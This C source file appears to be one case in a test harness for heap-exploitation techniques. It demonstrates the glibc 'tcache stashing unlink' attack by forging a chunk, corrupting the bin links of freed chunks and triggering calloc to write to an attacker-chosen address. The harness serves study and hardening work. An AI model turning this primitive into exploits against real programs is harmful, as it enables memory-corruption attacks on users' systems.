/* Usage: tcache_stashing_unlink SIZE
   Free chunks in a bin, the last one's backward link to a forged chunk: a
   request that refills the cache from the bin would put that into the cache,
   and write the bin's address behind it. calloc, since glibc's passes by its
   cache. */
#include "attack.h"

int main(int argc, char **argv)
{
    struct target t = { { 0 } };
    size_t n = size_arg(argv);
    unsigned char *p[9];
    warm(n);
    for (int i = 0; i < 9; i++) {
        p[i] = take_raw(n);
        take(n);
    }
    uint64_t *fake = &t.words[2];
    *size_word(fake) = (uint32_t)malloc_usable_size(p[0]) + 8 + 4;
    fake[0] = fake[1] = address(&in_data.words[2]);
    watch(0, &t);
    watch(1, &in_data);
    for (int i = 0; i < 9; i++)
        drop(p[i]);
    malloc_trim(0);
    for (int i = 0; i < 9; i++)
        links(p[i])[1] = address(fake);
    enter(calloc(1, n), n, 0);
    for (int i = 0; i < 100; i++)
        take(n);
    return settle();
}
